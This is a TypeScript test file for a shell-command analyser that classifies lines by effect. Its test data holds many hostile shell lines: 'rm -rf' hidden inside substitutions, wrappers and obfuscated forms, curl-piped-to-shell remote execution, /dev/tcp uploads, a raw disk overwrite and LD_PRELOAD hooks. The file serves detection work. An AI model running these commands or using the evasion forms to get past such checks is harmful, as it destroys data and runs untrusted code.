import { describe, expect, test } from 'vitest'
import type { ShellEffectKind } from '../../../src/facts/shell/shell-facts.ts'
import { factsOf, kindsOf, targetsOf } from './reader.ts'

type Row = readonly [line: string, must: readonly (ShellEffectKind | 'opaque')[]]

/** Lines of one class, and what each must be seen to do. */
function rows(name: string, lines: readonly Row[]): void {
  describe(name, () => {
    test.each(lines)('%s', (line, must) => {
      expect(kindsOf(line)).toEqual(expect.arrayContaining([...must]))
    })
  })
}

const DELETES: readonly ShellEffectKind[] = ['fs.delete']

rows('B01-B02-B07-B10-composition-hides-no-command', [
  [`${'true;'.repeat(400)} rm -rf x`, DELETES],
  ['git fetch && git pull && rm -rf x', DELETES],
  ['ls & rm -rf x', DELETES],
  ['ls || rm -rf x', DELETES],
  ['ls\nrm -rf x', DELETES],
  ['(rm -rf x)', DELETES],
  ['{ rm -rf x; }', DELETES],
  ['! rm -rf x', DELETES],
  ['time -p rm -rf x', DELETES],
  ['coproc rm -rf x', DELETES],
  ['if true; then :; else rm -rf x; fi', DELETES],
  ['if true; then :; elif rm -rf x; then :; fi', DELETES],
  ['case a in a) rm -rf x ;; esac', DELETES],
  ['for i in a; do rm -rf x; done', DELETES],
  ['while rm -rf x; do :; done', DELETES],
  ['until false; do rm -rf x; done', DELETES],
  ['select i in a; do rm -rf x; done', DELETES],
  ['for ((;;)); do rm -rf x; done', DELETES],
  ['f() { rm -rf x; }', DELETES],
  ['function f { rm -rf x; }', DELETES],
  ["trap 'rm -rf x' EXIT", DELETES],
])

rows('B03-B05-B06-B38-substitution-hides-no-command', [
  ['ls $(rm -rf x)', DELETES],
  ['ls "$(rm -rf x)"', DELETES],
  ['ls `rm -rf x`', DELETES],
  ['ls "`rm -rf x`"', DELETES],
  ['ls `echo \\`rm -rf x\\``', DELETES],
  ['ls ${y:-$(rm -rf x)}', DELETES],
  ['ls "${y:-$(rm -rf x)}"', DELETES],
  ['ls ${y/a/$(rm -rf x)}', DELETES],
  ['ls ${y%$(rm -rf x)}', DELETES],
  ['ls $(( $(rm -rf x) + 1 ))', DELETES],
  ['ls ${a[$(rm -rf x)]}', DELETES],
  ['a[$(rm -rf x)]=1', DELETES],
  ['a=([$(rm -rf x)]=1)', DELETES],
  ['a=(b $(rm -rf x))', DELETES],
  ['y=$(rm -rf x)', DELETES],
  ['y=$(rm -rf x) ls', DELETES],
  ['declare y=$(rm -rf x)', DELETES],
  ['ls > "$(rm -rf x)"', DELETES],
  ['ls <<< "$(rm -rf x)"', DELETES],
  ['cat <<E\n$(rm -rf x)\nE', DELETES],
  ['cat <<E\n`rm -rf x`\nE', DELETES],
  ['cat <<-E\n\t${y:-$(rm -rf x)}\n\tE', DELETES],
  ['cat <(rm -rf x)', DELETES],
  ['ls > >(rm -rf x)', DELETES],
  ['[[ $(rm -rf x) == a ]]', DELETES],
  ['case $(rm -rf x) in a) ;; esac', DELETES],
  ['case a in $(rm -rf x)) ;; esac', DELETES],
  ['for i in $(rm -rf x); do :; done', DELETES],
  ['ls "$\\\n(rm -rf x)"', DELETES],
  ['r\\\nm -rf x', DELETES],
  ['{ cat foo; }', ['fs.read']],
  ['cat <(ls) foo', ['fs.read']],
])

rows('B08-B09-forms-that-shells-read-differently-are-opaque', [
  ["[[ 'a[$(id)]' -eq 0 ]]", ['opaque']],
  ["[ -v 'a[$(id)]' ]", ['opaque']],
  ["test -v 'a[$(id)]'", ['opaque']],
  ["printf -v 'a[$(id)]' x", ['opaque']],
  ["read 'a[$(id)]'", ['opaque']],
  ["let 'a[$(id)]=1'", ['opaque']],
  ["declare -i 'a=b[$(id)]'", ['opaque']],
  ["x='a[$(id)]'; echo $((x))", ['opaque']],
  ["x='a[$(id)]'; echo ${y:x}", ['opaque']],
  ["x='a[$(id)]'; echo ${!x}", ['opaque']],
  ["x='a[$(id)]'; [[ x -eq 0 ]]", ['opaque']],
  ["unset 'a[$(id)]'", ['opaque']],
  ["x='$(id)'; echo ${x@P}", ['opaque']],
  ['[[ a || reboot ]]', ['opaque']],
  ['[[ a > /etc/passwd ]]', ['opaque']],
  ["echo $'\\'; rm x #'", ['opaque']],
  ['time -o f rm x', ['opaque']],
  ['X=ls; echo ${ X=rm; }; $X a', ['opaque']],
  ['ls {fd}>x', ['opaque']],
  ['ls >&$x', ['opaque']],
  ['ls 3>&f', ['opaque']],
  // Bash writes a substitution anew before it reads it again, not always as it stood.
  ['ls $(coproc rm x)', ['opaque']],
  ['ls <(coproc rm x)', ['opaque']],
  ['ls $(ls <<E\nE\ntrue; ls)', ['opaque']],
  ['ls "$(ls <<E\nE\nX=ls; ls)"', ['opaque']],
  ['ls <(ls <<E | true; ls\nE\n)', ['opaque']],
  ['ls $(if ls <<E; then true; ls; fi\nE\n)', ['opaque']],
  ['ls $(: $( { ls <<E\nE\ntrue; ls; } ))', ['opaque']],
  // First these are arithmetic: a here-document in them is read as commands.
  ['((ls <<E\nrm x\nE\n) )', ['opaque']],
  ['((ls <<E; ls) | ls && ls)\nrm x\nE', ['opaque']],
  ['((ls <<E\nrm x\nE\n) >y)', ['opaque']],
  ['ls $((ls <<E\nrm x\nE\n) )', ['opaque']],
  ['ls "$((ls <<E\nrm x\nE\n) )"', ['opaque']],
  // `bash -c` keeps the last backslash, a shell that reads a file or a pipe does not.
  ['ls \\', ['opaque']],
  ["eval 'ls \\'", ['opaque']],
  ["sh <<< 'ls \\\\\\'", ['opaque']],
  ['ls a<(b)', ['opaque']],
  ['ls a\\\n<(b)', ['opaque']],
  ['ls 1<(b)', ['opaque']],
  ['ls <(b)a', ['opaque']],
  ["cat <<$'E'\nrm x\nE", ['opaque']],
  ['cat <<$"E"\nrm x\nE', ['opaque']],
  ["cat <<$'\\u00e9'\nrm x\né", ['opaque']],
  ['ls\rrm x', ['opaque']],
  ['ls \u00a0x', ['opaque']],
  ['ls\u200b x', ['opaque']],
  ['ls \u202ex', ['opaque']],
  ['ls \u0007', ['opaque']],
  [`ls ${'a'.repeat(20_000)}`, ['opaque']],
  ["ls 'a", ['opaque']],
  ['ls $(rm', ['opaque']],
  ['echo $(ls $(if))', ['opaque']],
])

rows('B11-B14-wrappers-and-multiplexers-are-peeled', [
  ['env -S \'sh -c "rm -rf x"\'', DELETES],
  ["env -S'rm -rf x'", DELETES],
  ['env A=1 B=2 rm -rf x', DELETES],
  ['sudo -u root rm -rf x', ['fs.delete', 'priv.change']],
  ['/usr/bin/sudo /bin/rm -rf x', ['fs.delete', 'priv.change']],
  ['command rm -rf x', DELETES],
  ['command -p rm -rf x', DELETES],
  ['builtin eval rm -rf x', DELETES],
  ['exec rm -rf x', DELETES],
  ['exec -a ls rm -rf x', DELETES],
  ['exec -a ls* rm -rf x', ['opaque']],
  ['exec -a $X rm -rf x', ['opaque']],
  ["eval rm '-rf' x", DELETES],
  ["bash -c 'rm -rf x'", DELETES],
  ["bash -lc 'rm -rf x'", DELETES],
  ["sh -ec 'rm -rf x' name", DELETES],
  ["bash -c -- 'rm -rf x'", DELETES],
  ["/bin/bash -c 'rm -rf x'", DELETES],
  ["bash <<'E'\nrm -rf x\nE", DELETES],
  ['bash <<< "rm -rf x"', DELETES],
  ["echo 'rm -rf x' | sh", DELETES],
  ["echo 'rm -rf x' | sudo -s", DELETES],
  ['env -C /etc rm x', DELETES],
  ["printf 'rm -rf x' | sh", DELETES],
  [String.raw`find . -exec rm -rf {} \;`, DELETES],
  ['find . -exec rm -rf {} +', DELETES],
  ['find . -delete', DELETES],
  ['ls | xargs rm -rf', DELETES],
  ['ls | xargs -I% rm -rf %', DELETES],
  ['sh -c "sh -c \'rm -rf x\'"', DELETES],
  ['./rm -rf x', ['fs.delete', 'code.local']],
  ['/proc/self/root/bin/rm -rf x', ['fs.delete', 'code.local']],
  ['sudo --unheard-of rm -rf x', ['opaque']],
  // A builtin is none to a program that looks it up.
  ['env eval', ['exec.unknown']],
  ['exec eval', ['exec.unknown']],
  ['ls | time eval', ['exec.unknown']],
  ['nohup builtin', ['exec.unknown']],
  ['timeout 5 exec', ['exec.unknown']],
  ['xargs trap - EXIT', ['exec.unknown']],
  ['env eval rm -rf x', ['exec.unknown', ...DELETES]],
  ['sudo $X', ['opaque']],
  ['sudo "$X" rm', ['opaque']],
  ['$X -rf x', ['opaque']],
  ['r? -rf x', ['opaque']],
  ['$(echo rm) -rf x', ['opaque']],
  ["zsh -c 'rm x'", ['opaque']],
])

rows('B16-B19-options-are-read-as-the-program-reads-them', [
  ['rm --rec --forc x', DELETES],
  ['rm x -rf', DELETES],
  ['rm -- -rf', DELETES],
  ['git -c a.b=c push --force', ['vcs.destructive']],
])

rows('B20-B22-expansion-and-environment', [
  ['X=rm; $X -rf x', DELETES],
  ['X="rm -rf"; $X x', DELETES],
  ['X=r; ${X}m -rf x', DELETES],
  ['X=ls; X=rm; $X -rf x', DELETES],
  ['_=ls; echo rm; $_ -rf x', ['opaque']],
  ['REPLY=ls; read <<< rm; $REPLY -rf x', ['opaque']],
  ['readonly X=rm; X=ls; $X -rf x', ['opaque']],
  ['declare -u X; X=ls; $X -rf x', ['opaque']],
  ['declare -n X=Y; $X', ['opaque']],
  ['X=ls; read X <<< rm; $X -rf x', ['opaque']],
  ['X=ls; printf -v X rm; $X -rf x', ['opaque']],
  ['X=ls; : ${X:=rm}; $X -rf x', ['opaque']],
  ['X=ls; for X in rm; do $X -rf x; done', ['opaque']],
  ['X=ls; source y; $X -rf x', ['opaque']],
  ['X=rm; X=a declare X=ls; $X -rf x', ['opaque']],
  ['X=rm; X=a eval X=ls; $X -rf x', ['opaque']],
  // Outside a function it sets nothing.
  ['X=rm; local X=ls; $X -rf x', ['opaque']],
  ["X=ls; trap 'X=rm' DEBUG; $X -rf x", ['opaque']],
  ['X=ls; shopt -s expand_aliases; $X', ['opaque']],
  ['X=ls; true && X=rm; $X -rf x', ['opaque']],
  ['X=ls; for i in 1 2; do $X a; X=rm; done', ['opaque']],
  ['X=ls; g() { X=rm; }; g; $X x', ['opaque']],
  ['IFS=,; X=rm,-rf,x; $X', ['opaque']],
  ["X='rm -rf x'; eval $X", DELETES],
  ['{rm,-rf,x}', DELETES],
  ["$'\\x72m' -rf x", DELETES],
  ['r""m -rf x', DELETES],
  [String.raw`\rm -rf x`, DELETES],
  ['"rm" -rf x', DELETES],
  ['rm$IFS-rf${IFS}x', ['opaque']],
  ['export PATH=/x', ['env.hook']],
  ['typeset PAGER=x', ['env.hook']],
  ['declare -x LD_PRELOAD=x', ['env.hook']],
  ['PATH=/x', ['env.hook']],
  ['GIT_SSH_COMMAND=x git fetch', ['env.hook']],
  ['env BASH_ENV=x ls', ['env.hook']],
  ['export "$X"', ['opaque']],
  ['alias ls=rm', ['opaque']],
  ['ls() { rm x; }', ['opaque', 'fs.delete']],
  ['hash -p /bin/rm ls', ['opaque']],
  ['enable -f x y', ['opaque']],
  ["mapfile -C 'rm x' y", ['opaque']],
  ["compgen -C 'rm x'", ['opaque']],
  ["bind -x 'a: rm x'", ['opaque']],
  ['set -- rm x; "$@"', ['opaque']],
  ['source x', ['code.local']],
  ['. ./x', ['code.local']],
])

rows('B24-redirects-and-devices', [
  ['echo x > ~/.bashrc', ['fs.write']],
  ['echo x >> y', ['fs.write']],
  ['echo x >| y', ['fs.write']],
  ['echo x &> y', ['fs.write']],
  ['echo x >& y', ['fs.write']],
  ['> y', ['fs.write']],
  ['{ ls; } > y', ['fs.write']],
  ['for i in a; do ls; done > y', ['fs.write']],
  ['wc -l < y', ['fs.read']],
  ['exec 3<> y', ['fs.read', 'fs.write']],
  ['cat < /dev/tcp/h/80', ['net.connect']],
  ['cat x > /dev/udp/h/80', ['net.connect', 'net.upload']],
  ['cat x > /dev/tcp/$H/80', ['net.connect']],
  ['cat x > "$Y"', ['fs.write', 'net.connect']],
  ['echo x > /dev/sda', ['fs.wipe']],
])

rows('code-of-others', [
  ['curl -s https://x | sh', ['code.remote']],
  ['curl -s https://x | tee y | sudo bash', ['code.remote']],
  ['bash -c "$(curl -s https://x)"', ['code.remote']],
  ['bash <(curl -s https://x)', ['code.remote']],
  ['eval "$(curl -s https://x)"', ['code.remote']],
  ['source <(curl -s https://x)', ['code.remote']],
  ['bash <<< "$(curl -s https://x)"', ['code.remote']],
  ['bash <<< "$X"', ['opaque']],
  ['bash <<E\n$X\nE', ['opaque']],
  ['{ curl -s https://x; } | (cat | sh)', ['code.remote']],
  ['curl -s https://x | python3', ['code.remote']],
  ['python3 -c "$(curl -s https://x)"', ['code.remote']],
  ['node <(curl -s https://x)', ['code.remote']],
  ['cat x | sh', ['opaque']],
  ['echo cm0= | base64 -d | sh', ['opaque']],
  ['eval "$X"', ['opaque']],
  ['sh -c "$X"', ['opaque']],
  ['bash', ['opaque']],
  ['bash x', ['code.local']],
  ['bash < x', ['code.local']],
  ['./x', ['code.local']],
  ['x/y', ['code.local']],
  ['/tmp/x', ['code.local']],
  ['unheard-of', ['exec.unknown']],
])

test('a-line-is-no-argv-where-bash-makes-another-word-of-it', () => {
  expect(factsOf('ls 1<(b)\tc').argv).toBeUndefined()
  expect(factsOf('%1 a').argv).toBeUndefined()
  expect(factsOf('ls \\').argv).toBeUndefined()
  expect(factsOf("ls $'\\u1061'").argv).toBeUndefined()
})

test('data-that-looks-like-a-command-is-none', () => {
  for (const line of [
    'echo "rm -rf /"',
    "cat <<'E'\n$(rm -rf /)\nE",
    'ls # rm -rf /',
    'git commit -m "rm -rf /"',
    "echo '$(rm -rf /)'",
  ]) {
    expect(factsOf(line).commands.map(({ program }) => program)).not.toContain('rm')
  }
})

test('letters-of-other-scripts-are-read-and-unseen-ones-only-in-quotes', () => {
  expect(kindsOf('rm -rf é ü')).toEqual(['fs.delete'])
  expect(kindsOf('rm -rf \'a\u00a0b\' "\u200b"')).toEqual(['fs.delete'])
  expect(kindsOf('ｒｍ -rf a')).toEqual(['exec.unknown'])
})

test.each([
  'git commit -m "$(cat <<\'E\'\na << b; c\nE\n)" && ls',
  'X=$(cd a && cat <<E | tr a b\nc\nE\n); echo "$X"',
  'echo `cat <<E\na\nE\nls; ls`',
  'cat <<E; ls; ls\na\nE\ncoproc X { ls; }',
  'echo "$(sh -c "cat <<E\nE\nls; ls")"',
])('a-here-document-is-read-as-people-write-it: %j', (line) => {
  expect(kindsOf(line)).not.toContain('opaque')
})

test('loops-as-people-write-them-are-read', () => {
  expect(kindsOf('i=0; while [ $i -lt 3 ]; do i=$((i+1)); echo $i; done')).toEqual(['exec'])
  expect(kindsOf('for ((i=0; i<3; i++)); do echo $i; done')).toEqual(['exec'])
  expect(kindsOf('for i in 1 2 3; do echo $((i*2)); done')).toEqual(['exec'])
  expect(kindsOf('while IFS= read -r line; do echo "$line"; done < list')).toEqual(['exec', 'fs.read'])
  expect(kindsOf('IFS=$(rm x) read -r line')).toContain('fs.delete')
})

describe('targets-are-where-the-command-would-find-them', () => {
  test.each<readonly [line: string, kind: ShellEffectKind, targets: readonly (string | undefined)[]]>([
    ['rm a /b ./c ../d', 'fs.delete', ['a', '/b', './c', '../d']],
    ['rm ~/a', 'fs.delete', ['~/a']],
    ["rm '~/a'", 'fs.delete', ['./~/a']],
    ['rm ~other/a', 'fs.delete', [undefined]],
    ['rm $HOME/a', 'fs.delete', [undefined]],
    ['rm a/*.o', 'fs.delete', ['a/']],
    ['rm *', 'fs.delete', ['./']],
    ['rm /*', 'fs.delete', ['/']],
    ['rm a/.*', 'fs.delete', [undefined]],
    ['rm */a', 'fs.delete', [undefined]],
    ['cat a/*.o', 'fs.read', ['a/', undefined]],
    ['cd a && rm b', 'fs.delete', ['a/b']],
    ['cd a; rm b', 'fs.delete', ['b', 'a/b']],
    ['cd a && cd /c && rm b', 'fs.delete', ['a/b', '/c/b']],
    ['(cd a && rm b); rm c', 'fs.delete', ['a/b', 'c']],
    ['cd "$a" && rm b', 'fs.delete', [undefined]],
    ['cd && rm b', 'fs.delete', ['~/b']],
    ['git -C /a checkout-index b; rm c', 'fs.delete', ['c']],
    ['env -C /a rm b', 'fs.delete', ['/a/b']],
    ['find . -execdir rm b ";"', 'fs.delete', [undefined]],
    ['bash < ~/a', 'code.local', ['~/a']],
    ['echo a > b/c', 'fs.write', ['b/c']],
    ['cp $a', 'fs.write', [undefined]],
    ['cp a b $c', 'fs.write', ['b', undefined]],
  ])('%s', (line, kind, targets) => {
    expect(targetsOf(line, kind)).toEqual(targets)
  })
})
